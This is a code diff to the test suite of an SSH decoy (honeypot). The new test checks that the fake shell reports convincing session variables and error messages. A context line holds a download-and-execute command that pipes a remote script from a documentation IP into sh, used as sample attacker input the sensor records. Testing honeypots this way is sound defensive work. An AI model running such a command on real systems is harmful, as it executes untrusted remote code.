@@ -103,6 +103,18 @@ describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => 
     assert.equal(result.data?.exitCode, 0);
   });
 
+  it('a session knows who it came from, and its shell calls itself as sshd calls it', async () => {
+    const { stdout, stderr } = await ssh(
+      'root',
+      'echo $SSH_CLIENT; echo $SSH_CONNECTION; echo $USER $LOGNAME $SHELL $SHLVL $0 $SSH_TTY; no-such-thing',
+    );
+    const [client = '', connection, names] = stdout.split('\n');
+    assert.match(client, /^127\.0\.0\.1 \d+ 22$/);
+    assert.match(connection ?? '', /^127\.0\.0\.1 \d+ [\d.]+ 22$/);
+    assert.equal(names, 'root root /bin/bash 1 bash');
+    assert.match(stderr, /^bash: line 1: no-such-thing: command not found$/m);
+  });
+
   it('what a command is fed is evidence, and what it writes of the machine is not', async () => {
     const script = 'wget -q http://192.0.2.47/fed.sh -O- | sh\n';
     const args = ['-oPubkeyAuthentication=no', `-p${sensor.port('ssh')}`, 'root@127.0.0.1'];
